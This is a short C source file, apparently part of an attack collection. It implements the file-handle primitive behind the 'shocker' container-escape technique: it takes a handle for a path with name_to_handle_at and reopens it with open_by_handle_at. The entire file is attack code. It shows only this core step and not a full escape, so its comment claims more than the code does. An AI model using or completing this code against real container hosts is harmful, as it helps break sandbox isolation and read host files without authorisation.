/* A file by its inode, past all directories ("shocker"). */
#include "attack.h"

struct handle {
    unsigned bytes;
    int type;
    unsigned char data[128];
};

static long attack(char **argv)
{
    struct handle handle = {.bytes = sizeof handle.data};
    int mount_id, place = open(argv[1], O_RDONLY | O_DIRECTORY);
    if (place < 0 || syscall(SYS_name_to_handle_at, AT_FDCWD, argv[1], &handle, &mount_id, 0) != 0)
        return -1;
    return syscall(SYS_open_by_handle_at, place, &handle, O_RDONLY);
}
